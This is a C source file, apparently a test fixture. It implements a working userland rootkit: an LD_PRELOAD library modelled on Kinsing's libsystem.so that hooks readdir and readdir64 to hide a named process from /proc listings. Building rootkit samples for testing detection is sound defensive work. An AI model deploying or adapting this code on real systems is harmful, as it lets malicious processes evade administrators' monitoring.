/* Test rootkit: a preload library that hides processes from /proc listings,
 * as Kinsing's libsystem.so does. readdir and readdir64 skip every /proc
 * entry whose comm is HIDE_NAME (set when compiling). The tests load it only
 * inside a private mount namespace of their own, never through the host's
 * /etc/ld.so.preload. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#ifndef HIDE_NAME
#error "compile with -DHIDE_NAME='\"name\"'"
#endif

static int is_proc_dir(DIR *d)
{
	char link[64], target[16];
	ssize_t n;

	snprintf(link, sizeof(link), "/proc/self/fd/%d", dirfd(d));
	n = readlink(link, target, sizeof(target) - 1);
	if (n < 0)
		return 0;
	target[n] = '\0';
	return strcmp(target, "/proc") == 0;
}

static int hidden(DIR *d, const char *name)
{
	char path[64], comm[64];
	ssize_t n;
	int fd;

	if (name[0] < '0' || name[0] > '9' || !is_proc_dir(d))
		return 0;
	snprintf(path, sizeof(path), "/proc/%s/comm", name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	n = read(fd, comm, sizeof(comm) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	comm[n] = '\0';
	comm[strcspn(comm, "\n")] = '\0';
	return strcmp(comm, HIDE_NAME) == 0;
}

struct dirent *readdir(DIR *d)
{
	static struct dirent *(*real)(DIR *);
	struct dirent *e;

	if (!real)
		real = (struct dirent * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir");
	do
		e = real(d);
	while (e && hidden(d, e->d_name));
	return e;
}

struct dirent64 *readdir64(DIR *d)
{
	static struct dirent64 *(*real)(DIR *);
	struct dirent64 *e;

	if (!real)
		real = (struct dirent64 * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir64");
	do
		e = real(d);
	while (e && hidden(d, e->d_name));
	return e;
}
